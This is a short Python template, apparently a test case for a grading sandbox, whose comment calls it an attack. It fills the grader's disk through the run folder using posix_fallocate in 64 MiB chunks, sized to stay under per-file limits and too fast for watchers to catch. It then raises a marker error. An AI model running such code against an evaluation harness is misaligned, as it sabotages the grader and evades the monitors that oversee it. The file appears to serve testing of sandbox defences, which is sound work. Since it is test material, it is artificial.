# Attack: fill the grading machine's disk through the run folder faster than any watcher can look:
# fallocate reserves each file's blocks at once (64 MiB per call, far below the file size limit),
# no data written, thousands of megabytes in milliseconds.
import os

from grader.inside import setup

run = os.path.dirname(setup._RECORDER[-1].record_path)
reserved = 0
for i in range({{TOTAL_MB}} // 64):
    fd = os.open(os.path.join(run, f"filler-{i}.bin"), os.O_CREAT | os.O_WRONLY, 0o600)
    try:
        os.posix_fallocate(fd, 0, 64 << 20)
    finally:
        os.close(fd)
    reserved += 64
raise RuntimeError("PAST" + f"-THE-DISK-LIMIT: {reserved} MiB reserved")
